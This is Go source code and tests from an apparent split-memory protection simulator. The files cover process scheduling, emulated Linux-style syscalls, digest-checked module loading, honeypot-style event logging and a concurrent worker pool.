			} else if k.cfg.Chaos != nil && k.cfg.Chaos.ForcePreempt() {
				break
			}
		}
		if k.cur != nil && k.cur.Alive() {
			k.cur.Ctx = k.m.Ctx
		}
		if p.state == stateRunnable {
			k.enqueue(p)
		}
		if k.m.Cycles >= deadline {
			return RunResult{Reason: ReasonBudget, Cycles: k.m.Cycles - start}
		}
	}
}

// RunToCompletion runs with no budget and returns the result.
func (k *Kernel) RunToCompletion() RunResult { return k.Run(0) }

func (k *Kernel) idleReason() StopReason {
	live := 0
	waitingHost := 0
	for _, p := range k.procs {
		if !p.Alive() {
			continue
		}
		live++
		if p.state == stateWaitStdin || p.state == stateShell {
			waitingHost++
		}
	}
	switch {
	case live == 0:
		return ReasonAllDone
	case waitingHost > 0:
		return ReasonWaitingInput
	default:
		return ReasonDeadlock
	}
}

// enqueue adds p to the run queue if it is not already queued.
func (k *Kernel) enqueue(p *Process) {
	for _, pid := range k.runq {
		if pid == p.PID {
			return
		}
	}
	k.runq = append(k.runq, p.PID)
}

// nextRunnable pops the first actually-runnable process off the queue.
func (k *Kernel) nextRunnable() *Process {
	for len(k.runq) > 0 {
		pid := k.runq[0]
		k.runq = k.runq[1:]
		p, ok := k.procs[pid]
		if ok && p.state == stateRunnable {
			return p
		}
	}
	return nil
}

// switchTo performs a context switch: save the outgoing register file,
// install the incoming pagetable (which flushes both TLBs — the dominant
// cost source of the split-memory system, §4.6) and restore registers.
func (k *Kernel) switchTo(p *Process) {
	if k.cur == p {
		return
	}
	if k.cur != nil && k.cur.Alive() {
		k.cur.Ctx = k.m.Ctx
	}
	k.m.Ctx = p.Ctx
	k.m.SetPagetable(p.PT)
	if k.cur != nil {
		k.m.AddCycles(k.m.Cost.CtxSwitch)
		k.m.Stats.CtxSwitches++
	}
	k.cur = p
}

// wakeStdinWaiters moves processes blocked on stdin back to the run queue
// when input (or EOF) has arrived from the host. Processes wake in PID
// order: the wake order decides the run-queue order, and map iteration
// would make it (and everything downstream) nondeterministic.
func (k *Kernel) wakeStdinWaiters() {
	for _, p := range k.Processes() {
		if p.state == stateWaitStdin && (len(p.stdin.data) > 0 || p.stdin.eof) {
			p.state = stateRunnable
			k.enqueue(p)
		}
	}
}

// exitProcess terminates p voluntarily with the given status.
func (k *Kernel) exitProcess(p *Process, status int) {
	p.state = stateExited
	p.exitCode = status
	k.finishProcess(p)
	k.Emit(Event{Kind: EvProcessExit, PID: p.PID, Proc: p.Name, Addr: uint32(status)})
}

// killProcess terminates p with a signal (the kernel's SIGSEGV/SIGILL
// delivery; the paper's break response mode ends here).
func (k *Kernel) killProcess(p *Process, sig Signal, addr uint32) {
	p.state = stateKilled
	p.killSig = sig
	p.faultAddr = addr
	k.finishProcess(p)
	k.Emit(Event{Kind: EvSignal, PID: p.PID, Proc: p.Name, Signal: sig, Addr: addr})
}

func (k *Kernel) finishProcess(p *Process) {
	k.releaseProcessMemory(p)
	for fd := range p.fds {
		k.closeFD(p, fd)
	}
	if k.cur == p {
		k.cur = nil
		// The machine must not keep executing with the dead pagetable.
	}
	// Wake a parent blocked in waitpid.
	if parent, ok := k.procs[p.parent]; ok && parent.state == stateWaitChild {
		if parent.waitAny || parent.waitPID == p.PID {
			parent.state = stateRunnable
			k.enqueue(parent)
		}
	}
}

// Kill terminates a process from the host side (e.g. a honeypot operator
// pulling the plug on an observed attack). Returns false if the pid is
// unknown or already dead.
func (k *Kernel) Kill(pid int, sig Signal) bool {
	p, ok := k.procs[pid]
	if !ok || !p.Alive() {
		return false
	}
	k.killProcess(p, sig, 0)
	return true
}

// liveProcesses returns the number of processes still alive.
func (k *Kernel) liveProcesses() int {
	n := 0
	for _, p := range k.procs {
		if p.Alive() {
			n++
		}
	}
	return n
}
