package kernel

import (
	"fmt"
	"sort"

	"splitmem/internal/cpu"
	"splitmem/internal/isa"
)

// Syscall numbers (Linux i386 flavored). Guest assembly uses matching .equ
// constants from the crt.
const (
	SysExit     = 1
	SysFork     = 2
	SysRead     = 3
	SysWrite    = 4
	SysClose    = 6
	SysWaitpid  = 7
	SysExecve   = 11
	SysTime     = 13
	SysGetpid   = 20
	SysPipe     = 42
	SysBrk      = 45
	SysMmap     = 90
	SysMprotect = 125
	SysYield    = 158
)

// errno values returned (negated) to the guest.
const (
	errEBADF  = 9
	errEFAULT = 14
	errEINVAL = 22
	errECHILD = 10
	errENOSYS = 38
)

const intInstrSize = 2 // "int 0x80" encodes to 2 bytes; blocking rewinds EIP

// syscall dispatches the int 0x80 gate. EAX carries the number, EBX/ECX/EDX
// the arguments, and the result is returned in EAX.
func (k *Kernel) syscall(p *Process) cpu.Action {
	k.syscalls++
	nr := k.m.Ctx.R[isa.EAX]
	a1 := k.m.Ctx.R[isa.EBX]
	a2 := k.m.Ctx.R[isa.ECX]
	a3 := k.m.Ctx.R[isa.EDX]
	if k.cfg.TraceSyscalls {
		k.Emit(Event{Kind: EvSyscall, Text: fmt.Sprintf("sys_%d(%#x, %#x, %#x)", nr, a1, a2, a3)})
	}
	switch nr {
	case SysExit:
		k.exitProcess(p, int(int32(a1)))
		return cpu.ActStop
	case SysFork:
		child, err := k.fork(p)
		if err != nil {
			k.ret(-errEFAULT)
			return cpu.ActResume
		}
		child.Ctx.R[isa.EAX] = 0
		k.ret(int32(child.PID))
		return cpu.ActResume
	case SysRead:
		return k.sysRead(p, a1, a2, a3)
	case SysWrite:
		return k.sysWrite(p, a1, a2, a3)
	case SysClose:
		if int(a1) >= len(p.fds) || p.fds[a1].kind == fdClosed {
			k.ret(-errEBADF)
		} else {
			k.closeFD(p, int(a1))
			k.ret(0)
		}
		return cpu.ActResume
	case SysWaitpid:
		return k.sysWaitpid(p, int(int32(a1)), a2)
	case SysExecve:
		return k.sysExecve(p, a1)
	case SysTime:
		k.ret(int32(uint32(k.m.Cycles)))
		return cpu.ActResume
	case SysGetpid:
		k.ret(int32(p.PID))
		return cpu.ActResume
	case SysPipe:
		return k.sysPipe(p, a1)
	case SysBrk:
		k.ret(int32(k.setBrk(p, a1)))
		return cpu.ActResume
	case SysMmap:
		addr := k.mmapAnon(p, a2, byte(a3&7))
		k.ret(int32(addr))
		return cpu.ActResume
	case SysMprotect:
		k.ret(k.mprotect(p, a1, a2, byte(a3&7)))
		return cpu.ActResume
	case SysYield:
		k.ret(0)
		p.Ctx = k.m.Ctx
		k.enqueue(p)
		return cpu.ActStop
	case SysDlload:
		return k.sysDlload(p, a1, a2, a3)
	case SysRegisterRecovery:
		return k.sysRegisterRecovery(p, a1)
	}
	k.ret(-errENOSYS)
	return cpu.ActResume
}

// ret stores a syscall result in the guest's EAX.
func (k *Kernel) ret(v int32) { k.m.Ctx.R[isa.EAX] = uint32(v) }

// block parks the process in the given state and rewinds EIP so the syscall
// instruction re-executes when the process is woken (restartable syscalls).
func (k *Kernel) block(p *Process, st procState) cpu.Action {
	k.m.Ctx.EIP -= intInstrSize
	p.Ctx = k.m.Ctx
	p.state = st
	return cpu.ActStop
}

func (k *Kernel) sysRead(p *Process, fd, buf, n uint32) cpu.Action {
	if int(fd) >= len(p.fds) {
		k.ret(-errEBADF)
		return cpu.ActResume
	}
	desc := p.fds[fd]
	switch desc.kind {
	case fdStdin:
		if len(p.stdin.data) == 0 {
			if p.stdin.eof {
				k.ret(0)
				return cpu.ActResume
			}
			return k.block(p, stateWaitStdin)
		}
		cnt := int(n)
		if cnt > len(p.stdin.data) {
			cnt = len(p.stdin.data)
		}
		data := p.stdin.data[:cnt]
		if err := k.CopyToUser(p, buf, data); err != nil {
			k.ret(-errEFAULT)
			return cpu.ActResume
		}
		if p.sebek {
			k.Emit(Event{Kind: EvSebekLine, Text: string(data)})
		}
		p.stdin.data = p.stdin.data[cnt:]
		k.m.AddCycles(k.m.Cost.IOByte * uint64(cnt))
		k.ret(int32(cnt))
		return cpu.ActResume
	case fdPipe:
		if !desc.read {
			k.ret(-errEBADF)
			return cpu.ActResume
		}
		pi := k.pipes[desc.pipe]
		if pi == nil {
			k.ret(-errEBADF)
			return cpu.ActResume
		}
		if len(pi.buf) == 0 {
			if pi.writers == 0 {
				k.ret(0)
				return cpu.ActResume
			}
			pi.waitR = append(pi.waitR, p.PID)
			return k.block(p, stateWaitPipe)
		}
		cnt := int(n)
		if cnt > len(pi.buf) {
			cnt = len(pi.buf)
		}
		if err := k.CopyToUser(p, buf, pi.buf[:cnt]); err != nil {
			k.ret(-errEFAULT)
			return cpu.ActResume
		}
		pi.buf = pi.buf[cnt:]
		k.wake(&pi.waitW)
		k.ret(int32(cnt))
		return cpu.ActResume
	}
	k.ret(-errEBADF)
	return cpu.ActResume
}

func (k *Kernel) sysWrite(p *Process, fd, buf, n uint32) cpu.Action {
	if int(fd) >= len(p.fds) {
		k.ret(-errEBADF)
		return cpu.ActResume
	}
	desc := p.fds[fd]
	switch desc.kind {
	case fdStdout:
		data, err := k.CopyFromUser(p, buf, int(n))
		if err != nil {
			k.ret(-errEFAULT)
			return cpu.ActResume
		}
		p.outbuf = append(p.outbuf, data...)
		k.m.AddCycles(k.m.Cost.IOByte * uint64(len(data)))
		k.ret(int32(len(data)))
		return cpu.ActResume
	case fdPipe:
		if desc.read {
			k.ret(-errEBADF)
			return cpu.ActResume
		}
		pi := k.pipes[desc.pipe]
		if pi == nil {
			k.ret(-errEBADF)
			return cpu.ActResume
		}
		if len(pi.buf) >= pipeCapacity {
			pi.waitW = append(pi.waitW, p.PID)
			return k.block(p, stateWaitPipe)
		}
		data, err := k.CopyFromUser(p, buf, int(n))
		if err != nil {
			k.ret(-errEFAULT)
			return cpu.ActResume
		}
		pi.buf = append(pi.buf, data...)
		k.wake(&pi.waitR)
		k.ret(int32(len(data)))
		return cpu.ActResume
	}
	k.ret(-errEBADF)
	return cpu.ActResume
}

func (k *Kernel) sysWaitpid(p *Process, pid int, statusPtr uint32) cpu.Action {
	reap := func(c *Process) cpu.Action {
		status := c.exitCode << 8
		if c.state == stateKilled {
			status = int(c.killSig)
		}
		if statusPtr != 0 {
			var b [4]byte
			b[0] = byte(status)
			b[1] = byte(status >> 8)
			b[2] = byte(status >> 16)
			b[3] = byte(status >> 24)
			if err := k.CopyToUser(p, statusPtr, b[:]); err != nil {
				k.ret(-errEFAULT)
				return cpu.ActResume
			}
		}
		delete(p.children, c.PID)
		// The process record stays in the table (post-mortem inspection by
		// the host); only the parent/child link is severed.
		k.ret(int32(c.PID))
		return cpu.ActResume
	}
	if len(p.children) == 0 {
		k.ret(-errECHILD)
		return cpu.ActResume
	}
	// Reap candidates in PID order: waitpid(-1) with several dead children
	// must pick the same one on every run (and on a restored run).
	pids := make([]int, 0, len(p.children))
	for cpid := range p.children {
		pids = append(pids, cpid)
	}
	sort.Ints(pids)
	for _, cpid := range pids {
		c := k.procs[cpid]
		if c == nil {
			delete(p.children, cpid)
			continue
		}
		if (pid == -1 || pid == cpid) && !c.Alive() {
			return reap(c)
		}
	}
	if pid != -1 && !p.children[pid] {
		k.ret(-errECHILD)
		return cpu.ActResume
	}
	p.waitAny = pid == -1
	p.waitPID = pid
	return k.block(p, stateWaitChild)
}

func (k *Kernel) sysExecve(p *Process, pathPtr uint32) cpu.Action {
	path, err := k.CopyStringFromUser(p, pathPtr, 256)
	if err != nil {
		path = fmt.Sprintf("<bad ptr %#x>", pathPtr)
	}
	p.shellSpawned = true
	p.Ctx = k.m.Ctx
	p.state = stateShell
	k.Emit(Event{Kind: EvShellSpawned, Addr: k.m.Ctx.EIP, Text: path})
	if p.sebek {
		k.Emit(Event{Kind: EvSebekLine, Text: fmt.Sprintf("[sebek] exec %s by pid %d", path, p.PID)})
	}
	return cpu.ActStop
}

func (k *Kernel) sysPipe(p *Process, ptr uint32) cpu.Action {
	id := k.nextPipe
	k.nextPipe++
	k.pipes[id] = &pipe{readers: 1, writers: 1}
	rfd := k.installFD(p, fdesc{kind: fdPipe, pipe: id, read: true})
	wfd := k.installFD(p, fdesc{kind: fdPipe, pipe: id})
	var b [8]byte
	b[0], b[1], b[2], b[3] = byte(rfd), byte(rfd>>8), byte(rfd>>16), byte(rfd>>24)
	b[4], b[5], b[6], b[7] = byte(wfd), byte(wfd>>8), byte(wfd>>16), byte(wfd>>24)
	if err := k.CopyToUser(p, ptr, b[:]); err != nil {
		k.ret(-errEFAULT)
		return cpu.ActResume
	}
	k.ret(0)
	return cpu.ActResume
}

const pipeCapacity = 65536

// pipe is an in-kernel unidirectional byte channel.
type pipe struct {
	buf     []byte
	readers int
	writers int
	waitR   []int // pids blocked reading
	waitW   []int // pids blocked writing
}

func (k *Kernel) installFD(p *Process, d fdesc) int {
	for i := range p.fds {
		if p.fds[i].kind == fdClosed {
			p.fds[i] = d
			return i
		}
	}
	p.fds = append(p.fds, d)
	return len(p.fds) - 1
}

func (k *Kernel) closeFD(p *Process, fd int) {
	if fd >= len(p.fds) {
		return
	}
	d := p.fds[fd]
	p.fds[fd] = fdesc{}
	if d.kind == fdPipe {
		k.pipeRef(d.pipe, d.read, -1)
	}
}

// pipeRef adjusts a pipe end's reference count, waking blocked peers when an
// end disappears (EOF / EPIPE-as-zero semantics).
func (k *Kernel) pipeRef(id int, readEnd bool, delta int) {
	pi := k.pipes[id]
	if pi == nil {
		return
	}
	if readEnd {
		pi.readers += delta
	} else {
		pi.writers += delta
	}
	if pi.writers == 0 {
		k.wake(&pi.waitR)
	}
	if pi.readers == 0 {
		k.wake(&pi.waitW)
	}
	if pi.readers <= 0 && pi.writers <= 0 {
		delete(k.pipes, id)
	}
}

// wake moves every pid in the list back to the run queue.
func (k *Kernel) wake(list *[]int) {
	for _, pid := range *list {
		if p, ok := k.procs[pid]; ok && p.state == stateWaitPipe {
			p.state = stateRunnable
			k.enqueue(p)
		}
	}
	*list = (*list)[:0]
}
