package kernel

import (
	"encoding/binary"
	"fmt"

	"splitmem/internal/cpu"
	"splitmem/internal/isa"
	"splitmem/internal/loader"
	"splitmem/internal/mem"
)

// Validated dynamic library loading (§4.3): "memory splitting could simply
// validate the signature of the loaded library prior to loading and
// splitting it" — the DigSig/VerifiedExec integration the paper points to.
// The dlload syscall receives module bytes over the process's input stream,
// verifies them against a caller-supplied digest, and only then maps them
// r-x through the protection engine — which, for split memory, installs the
// verified bytes on BOTH twins so the module is executable. This is the
// only sanctioned path from received bytes to fetchable code.
//
// Extension syscalls (beyond the paper's prototype):
//
//	dlload(dest, len, digest_ptr)       -> 0 / -EACCES / -EINVAL / -EIO
//	register_recovery(handler)          -> 0             (recovery mode)
const (
	SysDlload           = 210
	SysRegisterRecovery = 200
)

// Extra errno values for the extension syscalls.
const (
	errEIO    = 5
	errEACCES = 13
	errEEXIST = 17
)

// MaxDlloadBytes caps a single validated module load.
const MaxDlloadBytes = 1 << 20

func (k *Kernel) sysDlload(p *Process, dest, length, digestPtr uint32) cpu.Action {
	if dest&mem.PageMask != 0 || length == 0 || length > MaxDlloadBytes {
		k.ret(-errEINVAL)
		return cpu.ActResume
	}
	// The module body arrives on the input stream (the "file").
	if len(p.stdin.data) < int(length) {
		if p.stdin.eof {
			k.ret(-errEIO)
			return cpu.ActResume
		}
		return k.block(p, stateWaitStdin)
	}
	// Destination must be unmapped.
	end := (dest + length + mem.PageMask) &^ uint32(mem.PageMask)
	for vpn := dest >> mem.PageShift; vpn < end>>mem.PageShift; vpn++ {
		if p.PT.Get(vpn).Present() {
			k.ret(-errEEXIST)
			return cpu.ActResume
		}
	}
	if r := p.regionAt(dest); r != nil {
		k.ret(-errEEXIST)
		return cpu.ActResume
	}
	wantRaw, err := k.CopyFromUser(p, digestPtr, 8)
	if err != nil {
		k.ret(-errEFAULT)
		return cpu.ActResume
	}
	want := binary.LittleEndian.Uint64(wantRaw)

	body := p.stdin.data[:length]
	got := loader.FNV1a(body)
	if got != want {
		p.stdin.data = p.stdin.data[length:] // consume the rejected module
		k.Emit(Event{
			Kind: EvLibraryLoad,
			Addr: dest,
			Text: fmt.Sprintf("REJECTED: digest %016x, expected %016x", got, want),
		})
		k.ret(-errEACCES)
		return cpu.ActResume
	}

	// Verified: map the module r-x through the protection engine. For the
	// split engine this copies the verified bytes onto both twins (the
	// PermX path of MapPage), making the module fetchable.
	for vpn := dest >> mem.PageShift; vpn < end>>mem.PageShift; vpn++ {
		frame, err := k.m.Phys.Alloc()
		if err != nil {
			k.ret(-errEFAULT)
			return cpu.ActResume
		}
		off := (vpn << mem.PageShift) - dest
		chunk := body
		if int(off) < len(chunk) {
			chunk = chunk[off:]
		} else {
			chunk = nil
		}
		copy(k.m.Phys.Frame(frame), chunk)
		k.prot.MapPage(k, p, vpn, frame, permR|permX)
		k.m.AddCycles(k.m.Cost.DemandFill)
	}
	p.stdin.data = p.stdin.data[length:]
	p.regions = append(p.regions, Region{Start: dest, End: end, Perm: permR | permX, Name: "dlload"})
	for i := range p.regions {
		if p.regions[i].Name == "heap" {
			p.heap = &p.regions[i]
		}
	}
	k.Emit(Event{
		Kind: EvLibraryLoad,
		Addr: dest,
		Text: fmt.Sprintf("verified module at %#08x (%d bytes, digest %016x)", dest, length, got),
	})
	k.ret(0)
	return cpu.ActResume
}

func (k *Kernel) sysRegisterRecovery(p *Process, handler uint32) cpu.Action {
	p.RecoveryHandler = handler
	k.ret(0)
	return cpu.ActResume
}

// RecoveryEntry prepares the CPU context to enter the process's registered
// recovery handler on a fresh stack (used by the split engine's recovery
// response mode). Returns false if no handler is registered.
func (k *Kernel) RecoveryEntry(p *Process) bool {
	if p.RecoveryHandler == 0 {
		return false
	}
	k.m.Ctx.EIP = p.RecoveryHandler
	k.m.Ctx.R[isa.ESP] = p.initialSP - 64
	k.m.Ctx.Flags = cpu.Flags{}
	return true
}
