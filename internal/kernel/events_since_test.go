package kernel

import "testing"

// The incremental event API must keep lifetime sequence numbers monotonic
// through both ways the log forgets events: the ring dropping its oldest
// entry and ClearEvents discarding everything.

func TestEventsSinceRing(t *testing.T) {
	k := newKernel(t, Config{MaxEvents: 4})
	emit := func(n int) {
		for i := 0; i < n; i++ {
			k.Emit(Event{Kind: EvSebekLine, Text: "x"})
		}
	}

	emit(3)
	if k.EventSeq() != 3 {
		t.Fatalf("seq=%d want 3", k.EventSeq())
	}
	if got := k.EventsSince(0); len(got) != 3 {
		t.Fatalf("EventsSince(0)=%d want 3", len(got))
	}
	if got := k.EventsSince(2); len(got) != 1 {
		t.Fatalf("EventsSince(2)=%d want 1", len(got))
	}
	if got := k.EventsSince(3); len(got) != 0 {
		t.Fatalf("EventsSince(3)=%d want 0", len(got))
	}

	// Overflow the ring: seq keeps counting, old cursors clamp to the
	// oldest retained event instead of re-reading dropped slots.
	emit(3)
	if k.EventSeq() != 6 {
		t.Fatalf("seq=%d want 6", k.EventSeq())
	}
	if got := k.EventsSince(0); len(got) != 4 {
		t.Fatalf("EventsSince(0)=%d want 4 (ring capacity)", len(got))
	}
	if got := k.EventsSince(5); len(got) != 1 {
		t.Fatalf("EventsSince(5)=%d want 1", len(got))
	}
}

func TestEventsSinceClear(t *testing.T) {
	k := newKernel(t, Config{})
	for i := 0; i < 5; i++ {
		k.Emit(Event{Kind: EvSebekLine, Text: "x"})
	}
	k.ClearEvents()
	if k.EventSeq() != 5 {
		t.Fatalf("seq=%d want 5 (clear must not rewind the cursor)", k.EventSeq())
	}
	if got := k.EventsSince(0); len(got) != 0 {
		t.Fatalf("EventsSince(0)=%d after clear", len(got))
	}
	k.Emit(Event{Kind: EvSebekLine, Text: "y"})
	if k.EventSeq() != 6 {
		t.Fatalf("seq=%d want 6", k.EventSeq())
	}
	if got := k.EventsSince(5); len(got) != 1 || got[0].Text != "y" {
		t.Fatalf("EventsSince(5)=%v", got)
	}
}
