package fleet

// Pool contract tests: backlog saturation sheds and recovers, and one
// panicking task never takes a worker (or its queued siblings) down with it.

import (
	"context"
	"sync"
	"testing"
	"time"
)

// TestPoolSaturationRecovery drives the pool to saturation, proves TrySubmit
// sheds, then drains the burst and proves admission and the gauges recover.
func TestPoolSaturationRecovery(t *testing.T) {
	const workers, backlog = 2, 2
	p, err := NewPool(workers, backlog)
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()

	gate := make(chan struct{})
	started := make(chan struct{}, workers)
	blocker := func(context.Context) {
		started <- struct{}{}
		<-gate
	}

	// Fill every worker, then every backlog slot.
	for i := 0; i < workers; i++ {
		if !p.TrySubmit(blocker) {
			t.Fatalf("submit %d rejected with an idle pool", i)
		}
	}
	for i := 0; i < workers; i++ {
		<-started // both workers are definitely inside their task
	}
	for i := 0; i < backlog; i++ {
		if !p.TrySubmit(func(context.Context) {}) {
			t.Fatalf("backlog slot %d rejected", i)
		}
	}

	// Saturated: shedding must be immediate and stateless.
	for i := 0; i < 5; i++ {
		if p.TrySubmit(func(context.Context) {}) {
			t.Fatal("TrySubmit accepted past a full backlog")
		}
	}
	if got := p.Depth(); got != workers+backlog {
		t.Fatalf("depth=%d want %d", got, workers+backlog)
	}

	// Release the burst; the pool must return to empty and accept again.
	close(gate)
	deadline := time.Now().Add(10 * time.Second)
	for p.Depth() != 0 {
		if time.Now().After(deadline) {
			t.Fatalf("pool never drained: depth=%d", p.Depth())
		}
		time.Sleep(time.Millisecond)
	}
	queued, running, done := p.Stats()
	if queued != 0 || running != 0 || done != uint64(workers+backlog) {
		t.Fatalf("gauges after drain: queued=%d running=%d done=%d", queued, running, done)
	}
	ran := make(chan struct{})
	if !p.TrySubmit(func(context.Context) { close(ran) }) {
		t.Fatal("pool refuses work after recovering from saturation")
	}
	select {
	case <-ran:
	case <-time.After(10 * time.Second):
		t.Fatal("post-recovery task never ran")
	}
}

// TestPoolCrashIsolation interleaves panicking tasks with healthy ones: every
// healthy task still runs, every panic is counted, and Close drains cleanly —
// one job's death never poisons its siblings.
func TestPoolCrashIsolation(t *testing.T) {
	p, err := NewPool(2, 8)
	if err != nil {
		t.Fatal(err)
	}

	const good, bad = 12, 6
	var mu sync.Mutex
	ranGood := 0
	var wg sync.WaitGroup
	submit := func(task Task) {
		wg.Add(1)
		wrapped := func(ctx context.Context) {
			defer wg.Done()
			task(ctx)
		}
		for !p.TrySubmit(wrapped) {
			time.Sleep(time.Millisecond)
		}
	}
	for i := 0; i < good+bad; i++ {
		if i%3 == 1 { // 6 of 18: exactly the bad count
			submit(func(context.Context) { panic("task dies") })
		} else {
			submit(func(context.Context) {
				mu.Lock()
				ranGood++
				mu.Unlock()
			})
		}
	}
	wg.Wait()
	p.Close()

	mu.Lock()
	defer mu.Unlock()
	if ranGood != 12 {
		t.Fatalf("healthy tasks ran=%d want 12", ranGood)
	}
	if p.Panics() != 6 {
		t.Fatalf("panics=%d want 6", p.Panics())
	}
	if _, _, done := p.Stats(); done != good+bad {
		t.Fatalf("done=%d want %d: a panic stranded its slot", done, good+bad)
	}
}
