package fleet

// Pool contract tests: backlog saturation sheds and recovers, and one
// panicking task never takes a worker (or its queued siblings) down with it.

import (
	"context"
	"sync"
	"testing"
	"time"

	"splitmem"
)

// TestPoolSaturationRecovery drives the pool to saturation, proves TrySubmit
// sheds, then drains the burst and proves admission and the gauges recover.
func TestPoolSaturationRecovery(t *testing.T) {
	const workers, backlog = 2, 2
	p, err := NewPool(workers, backlog)
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()

	gate := make(chan struct{})
	started := make(chan struct{}, workers)
	blocker := func(context.Context) {
		started <- struct{}{}
		<-gate
	}

	// Fill every worker, then every backlog slot.
	for i := 0; i < workers; i++ {
		if !p.TrySubmit(blocker) {
			t.Fatalf("submit %d rejected with an idle pool", i)
		}
	}
	for i := 0; i < workers; i++ {
		<-started // both workers are definitely inside their task
	}
	for i := 0; i < backlog; i++ {
		if !p.TrySubmit(func(context.Context) {}) {
			t.Fatalf("backlog slot %d rejected", i)
		}
	}

	// Saturated: shedding must be immediate and stateless.
	for i := 0; i < 5; i++ {
		if p.TrySubmit(func(context.Context) {}) {
			t.Fatal("TrySubmit accepted past a full backlog")
		}
	}
	if got := p.Depth(); got != workers+backlog {
		t.Fatalf("depth=%d want %d", got, workers+backlog)
	}

	// Release the burst; the pool must return to empty and accept again.
	close(gate)
	deadline := time.Now().Add(10 * time.Second)
	for p.Depth() != 0 {
		if time.Now().After(deadline) {
			t.Fatalf("pool never drained: depth=%d", p.Depth())
		}
		time.Sleep(time.Millisecond)
	}
	queued, running, done := p.Stats()
	if queued != 0 || running != 0 || done != uint64(workers+backlog) {
		t.Fatalf("gauges after drain: queued=%d running=%d done=%d", queued, running, done)
	}
	ran := make(chan struct{})
	if !p.TrySubmit(func(context.Context) { close(ran) }) {
		t.Fatal("pool refuses work after recovering from saturation")
	}
	select {
	case <-ran:
	case <-time.After(10 * time.Second):
		t.Fatal("post-recovery task never ran")
	}
}

// TestPoolCrashIsolation interleaves panicking tasks with healthy ones: every
// healthy task still runs, every panic is counted, and Close drains cleanly —
// one job's death never poisons its siblings.
func TestPoolCrashIsolation(t *testing.T) {
	p, err := NewPool(2, 8)
	if err != nil {
		t.Fatal(err)
	}

	const good, bad = 12, 6
	var mu sync.Mutex
	ranGood := 0
	var wg sync.WaitGroup
	submit := func(task Task) {
		wg.Add(1)
		wrapped := func(ctx context.Context) {
			defer wg.Done()
			task(ctx)
		}
		for !p.TrySubmit(wrapped) {
			time.Sleep(time.Millisecond)
		}
	}
	for i := 0; i < good+bad; i++ {
		if i%3 == 1 { // 6 of 18: exactly the bad count
			submit(func(context.Context) { panic("task dies") })
		} else {
			submit(func(context.Context) {
				mu.Lock()
				ranGood++
				mu.Unlock()
			})
		}
	}
	wg.Wait()
	p.Close()

	mu.Lock()
	defer mu.Unlock()
	if ranGood != 12 {
		t.Fatalf("healthy tasks ran=%d want 12", ranGood)
	}
	if p.Panics() != 6 {
		t.Fatalf("panics=%d want 6", p.Panics())
	}
	if _, _, done := p.Stats(); done != good+bad {
		t.Fatalf("done=%d want %d: a panic stranded its slot", done, good+bad)
	}
}

// TestPoolWarmTemplate installs a template image of a machine parked at its
// stdin read and has every worker fork from it concurrently. Each fork must
// run to its own answer (CoW isolation across workers), ForkCount must see
// every fork, and closing the forks plus the template's source machine must
// drain the shared frame refcount to zero.
func TestPoolWarmTemplate(t *testing.T) {
	src := `
_start:
    sub esp, 64
    mov ebx, 0
    mov ecx, esp
    mov edx, 1
    mov eax, 3
    int 0x80
    load ebx, [esp]
    and ebx, 255
    mov eax, 1
    int 0x80
`
	tm := splitmem.MustNew(splitmem.Config{Protection: splitmem.ProtSplit})
	if _, err := tm.LoadAsm(src, "warm"); err != nil {
		t.Fatal(err)
	}
	if res := tm.Run(1_000_000); res.Reason != splitmem.ReasonWaitingInput {
		t.Fatalf("template parked with %v, want waiting-input", res.Reason)
	}
	img, err := tm.Image()
	if err != nil {
		t.Fatal(err)
	}

	p, err := NewPool(4, 16)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.Fork(); err == nil {
		t.Fatal("Fork with no template installed succeeded")
	}
	p.SetTemplate(img)
	if p.Template() != img {
		t.Fatal("Template() does not return the installed image")
	}

	const jobs = 16
	var mu sync.Mutex
	got := make(map[int]int)
	for i := 0; i < jobs; i++ {
		i := i
		ok := p.TrySubmit(func(context.Context) {
			m, err := p.Fork()
			if err != nil {
				t.Errorf("job %d: fork: %v", i, err)
				return
			}
			defer m.Close()
			proc, ok := m.Kernel().Process(1)
			if !ok {
				t.Errorf("job %d: root process lost", i)
				return
			}
			proc.StdinWrite([]byte{byte(0x10 + i)})
			proc.StdinClose()
			m.Run(40_000_000_000)
			_, status := proc.Exited()
			mu.Lock()
			got[i] = status
			mu.Unlock()
		})
		if !ok {
			// Backlog full: run the fork inline so every job still happens.
			i := i
			m, err := p.Fork()
			if err != nil {
				t.Fatalf("inline fork %d: %v", i, err)
			}
			proc, _ := m.Kernel().Process(1)
			proc.StdinWrite([]byte{byte(0x10 + i)})
			proc.StdinClose()
			m.Run(40_000_000_000)
			_, status := proc.Exited()
			mu.Lock()
			got[i] = status
			mu.Unlock()
			m.Close()
		}
	}
	p.Close()

	for i := 0; i < jobs; i++ {
		if got[i] != 0x10+i {
			t.Errorf("job %d exited with %#x, want %#x — forks are not isolated", i, got[i], 0x10+i)
		}
	}
	if n := p.ForkCount(); n != jobs {
		t.Errorf("ForkCount=%d, want %d", n, jobs)
	}
	base := tm.SharedBase()
	if base == nil {
		t.Fatal("template machine has no shared base after Image()")
	}
	tm.Close()
	if refs := base.Refs(); refs != 0 {
		t.Errorf("shared base still has %d refs after all forks and the template closed", refs)
	}
}
