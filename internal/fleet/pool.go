package fleet

// Pool is the persistent sibling of Run: where Run executes one fixed batch
// of machines and returns, a Pool keeps a fixed set of workers alive and
// accepts tasks for the rest of its life — the execution substrate of the
// splitmem-serve analysis service, whose admission queue is exactly the
// pool's bounded backlog. The concurrency contract is the same as Run's:
// each simulated machine stays single-threaded on one worker goroutine,
// and all cross-task aggregation happens through explicitly synchronized
// paths (telemetry.Registry.Merge, the caller's own channels).

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"

	"splitmem"
)

// Task is one unit of pool work. The context is the pool's lifetime
// context; tasks that simulate should pass it to Machine.RunContext so a
// pool shutdown can cancel them (a closing pool still drains its backlog —
// cancellation is the task's policy decision, not the pool's).
type Task func(ctx context.Context)

// Pool is a fixed-size worker pool with a bounded backlog.
type Pool struct {
	tasks   chan Task
	workers int
	backlog int

	ctx    context.Context
	cancel context.CancelFunc
	wg     sync.WaitGroup

	mu      sync.Mutex
	closed  bool
	queued  int // tasks accepted but not yet started
	running int // tasks currently executing
	done    uint64
	panics  uint64 // tasks that panicked (recovered; the worker survived)

	// Warm-pool state: an optional template image tasks fork machines from
	// instead of cold-booting. template is guarded by mu (SetTemplate may
	// race with in-flight tasks calling Fork); forks is the lifetime count.
	template *splitmem.Image
	forks    atomic.Uint64
}

// NewPool starts workers goroutines servicing a backlog of at most backlog
